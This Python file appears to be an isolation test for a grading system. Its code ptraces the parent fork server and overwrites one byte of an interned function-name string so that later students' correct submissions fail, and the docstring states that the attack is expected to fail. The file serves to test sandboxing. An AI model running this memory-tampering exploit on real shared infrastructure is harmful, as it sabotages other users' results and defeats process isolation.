"""Student A of a grade-all worker ptraces the fork server and sabotages later students.

Graded after the reference decaying_cosine.py (as zz_attack.py), so A itself scores full
marks. Its process was forked from the worker's fork server (the zygote), so objects the
zygote made before forking sit at the same addresses in both: `sys.intern(
"decaying_cosine")` is the very string the preloaded checks look student functions up
by. A PTRACE_ATTACHes its parent (the zygote) and pokes one byte of that string
("decaying_cosine" -> "decaying_cosinX", cached hash kept). Every process forked
afterwards inherits the change: a later student's `decaying_cosine` can no longer be
found, and their checks fail although their code is right.

It prints `ZYGOTE-INJECT injected pid=<p>` when the poke landed, else
`ZYGOTE-INJECT failed <why>`.
Expected: the poke fails (no ptrace of anything outside the submission's own processes,
or no fork server shared with later students); the next student keeps full marks.
"""
import ctypes
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
PTRACE_PEEKDATA, PTRACE_POKEDATA, PTRACE_ATTACH, PTRACE_DETACH = 2, 5, 16, 17
WALL = 0x40000000


def inject():
    name = sys.intern("decaying_cosine")
    raw = ctypes.string_at(id(name), 128)
    offset = raw.find(b"decaying_cosine\0")
    if offset < 0:
        return "failed: string layout not understood"
    target = id(name) + offset + len("decaying_cosin")   # the final "e"
    word = target & ~7
    pid = os.getppid()
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        return f"failed: PTRACE_ATTACH {pid}: {os.strerror(ctypes.get_errno())}"
    try:
        os.waitpid(pid, WALL)
        ctypes.set_errno(0)
        value = libc.ptrace(PTRACE_PEEKDATA, pid, ctypes.c_void_p(word), None)
        if ctypes.get_errno():
            return f"failed: PEEKDATA: {os.strerror(ctypes.get_errno())}"
        data = bytearray((value & (2 ** 64 - 1)).to_bytes(8, "little"))
        if data[target - word] != ord("e"):
            return "failed: the fork server's memory does not match"
        data[target - word] = ord("X")
        new = int.from_bytes(data, "little", signed=True)
        if libc.ptrace(PTRACE_POKEDATA, pid, ctypes.c_void_p(word), ctypes.c_void_p(new)) != 0:
            return f"failed: POKEDATA: {os.strerror(ctypes.get_errno())}"
        return f"injected pid={pid}"
    finally:
        libc.ptrace(PTRACE_DETACH, pid, None, None)


print("ZYGOTE-INJECT " + inject(), flush=True)
